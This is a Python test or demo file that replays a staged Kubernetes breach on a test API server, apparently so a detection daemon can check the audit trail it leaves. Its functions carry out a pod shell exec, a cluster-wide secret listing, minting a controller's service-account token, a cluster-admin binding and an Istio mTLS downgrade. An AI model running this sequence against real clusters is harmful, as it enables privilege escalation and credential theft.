"""The breach of the loop test: the demo's stages, done on the real API server and through the real Envoy."""

from __future__ import annotations

import time
import uuid
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field, replace
from typing import Any, Final

from parts.envoy import EnvoyPart
from parts.envoy_access import BATCH
from parts.kubernetes import KubernetesPart
from parts.kubernetes_objects import RBAC, bind, cluster_role, namespace, pod, service_account

from daemon.demo.attack import STAGES, VICTIM, Attack, Deed, Stage
from daemon.demo.error import StoryError
from daemon.demo.traffic.platform import Platform
from daemon.demo.vault_scene import ENTERED

FLUX: Final = ("flux-system", "kustomize-controller")
MESH: Final = "/apis/security.istio.io/v1"
_KNOCKS: Final = 12
_SERVED_S: Final = 10.0
_OPEN: Final = {"type": "object", "x-kubernetes-preserve-unknown-fields": True}
_UPGRADE: Final = {
    "Connection": "Upgrade",
    "Upgrade": "websocket",
    "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Key": "c3RhY2sgb2YgZGF2eWxhbXA=",
    "Sec-WebSocket-Protocol": "v4.channel.k8s.io",
}


@dataclass(slots=True)
class Cluster:
    """What stands on the API server before the breach, and the token of the person whose password leaked."""

    server: KubernetesPart
    platform: Platform
    token: str = field(default="", repr=False)

    def furnish(self) -> None:
        """Make the namespaces, accounts, the entered pod and the mesh's policy. Raises PartFailedError."""
        entered = self.platform.workload(ENTERED)
        person = next(p for p in self.platform.people if p.user == VICTIM)
        for name in (entered.namespace, FLUX[0], "terraminer"):
            namespace(self.server, name)
        service_account(self.server, *FLUX)
        service_account(self.server, entered.namespace, entered.service_account)
        pod(self.server, entered.namespace, entered.pods[0].name, entered.service_account)
        self.token = self.server.user_token(person.mail, [f"terraminer:{person.group}"])
        everything = (["*"], ["*"], ["*"])
        cluster_role(self.server, "terraminer-operators", [everything])
        bind(
            self.server, "terraminer-operators", "terraminer-operators", {"kind": "User", "name": person.mail}
        )
        self._mesh_policy()

    def exec_into_pod(self) -> str:
        """Open a shell by websocket; the node answers 101."""
        entered = self.platform.workload(ENTERED)
        place = f"/api/v1/namespaces/{entered.namespace}/pods/{entered.pods[0].name}/exec"
        return self._do(
            "GET", f"{place}?command=%2Fbin%2Fsh&container=main&stdout=true", 101, headers=_UPGRADE
        )

    def list_secrets(self) -> str:
        """List the secrets of the whole cluster."""
        return self._do("GET", "/api/v1/secrets?limit=500", 200)

    def mint_token(self) -> str:
        """Mint a token for the account that applies everything."""
        body = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {"audiences": []}}
        return self._do("POST", f"/api/v1/namespaces/{FLUX[0]}/serviceaccounts/{FLUX[1]}/token", 201, body)

    def bind_admin(self) -> str:
        """Give the entered pod's account every right."""
        entered = self.platform.workload(ENTERED)
        who = {"kind": "ServiceAccount", "namespace": entered.namespace, "name": entered.service_account}
        group = "rbac.authorization.k8s.io"
        body = {
            "apiVersion": f"{group}/v1",
            "kind": "ClusterRoleBinding",
            "metadata": {"name": "etl-debug"},
            "roleRef": {"apiGroup": group, "kind": "ClusterRole", "name": "cluster-admin"},
            "subjects": [who],
        }
        return self._do("POST", f"{RBAC}/clusterrolebindings", 201, body)

    def open_mesh(self) -> str:
        """Turn mutual TLS from STRICT to PERMISSIVE."""
        place = f"{MESH}/namespaces/terraminer/peerauthentications/default"
        return self._do("PATCH", place, 200, {"spec": {"mtls": {"mode": "PERMISSIVE"}}})

    def _do(
        self, method: str, path: str, wanted: int, body: Any = None, headers: Mapping[str, str] | None = None
    ) -> str:
        """Call as the victim under an audit id of our own; return it. Raises StoryError."""
        marker = str(uuid.uuid4())
        answer = self.server.call(
            method, path, body, token=self.token, headers={**(headers or {}), "Audit-ID": marker}
        )
        if answer.status_code != wanted:
            raise StoryError(f"{method} {path.partition('?')[0]}: {answer.status_code}, not {wanted}")
        return marker

    def _mesh_policy(self) -> None:
        names = {
            "plural": "peerauthentications",
            "singular": "peerauthentication",
            "kind": "PeerAuthentication",
        }
        served = {"name": "v1", "served": True, "storage": True, "schema": {"openAPIV3Schema": _OPEN}}
        definition = {
            "apiVersion": "apiextensions.k8s.io/v1",
            "kind": "CustomResourceDefinition",
            "metadata": {"name": "peerauthentications.security.istio.io"},
            "spec": {
                "group": "security.istio.io",
                "scope": "Namespaced",
                "names": names,
                "versions": [served],
            },
        }
        self.server.call("POST", "/apis/apiextensions.k8s.io/v1/customresourcedefinitions", definition)
        policy = {
            "apiVersion": "security.istio.io/v1",
            "kind": "PeerAuthentication",
            "metadata": {"name": "default", "namespace": "terraminer"},
            "spec": {"mtls": {"mode": "STRICT"}},
        }
        place = f"{MESH}/namespaces/terraminer/peerauthentications"
        _until(lambda: self.server.call("POST", place, policy).status_code in (201, 409))


@dataclass(frozen=True, slots=True)
class Mesh:
    """What the thief tries from a workload that no policy names."""

    envoy: EnvoyPart

    def knock(self) -> str:
        """Call what the mesh's policies refuse, many times; return the first call's request id."""
        markers = [str(uuid.uuid4()) for _ in range(_KNOCKS)]
        for number, marker in enumerate(markers):
            status = self.envoy.request(BATCH, f"/admin/{number}", headers={"x-request-id": marker})
            if status != 403:
                raise StoryError(f"the mesh answered {status} to a call that its policies refuse")
        return markers[0]


def real_stages(cluster: Cluster, mesh: Mesh) -> tuple[Stage, ...]:
    """Return the demo's stages with those of the cluster done for real, and two more.

    Stage 9, data to a host never called before, stays a record: the week of ordinary calls before it
    cannot be waited for.
    """
    deeds: dict[int, Callable[[], str]] = {
        4: cluster.exec_into_pod,
        5: cluster.list_secrets,
        6: cluster.mint_token,
        10: cluster.open_mesh,
    }
    staged = [replace(s, deed=_real(deeds[s.number])) if s.number in deeds else s for s in STAGES]
    bound = Stage(
        11, "cluster-admin bound to the entered pod's account", "cluster", _real(cluster.bind_admin)
    )
    refused = Stage(12, "calls that the mesh's policies refuse", "mesh", _real(mesh.knock))
    return (*staged, bound, refused)


def _real(deed: Callable[[], str]) -> Callable[[Attack, float], Deed]:
    return lambda _attack, _at: Deed(deed())


def _until(happened: Callable[[], bool]) -> None:
    give_up = time.monotonic() + _SERVED_S
    while not happened():
        if time.monotonic() > give_up:
            raise StoryError("the API server does not serve the mesh's policies")
        time.sleep(0.1)
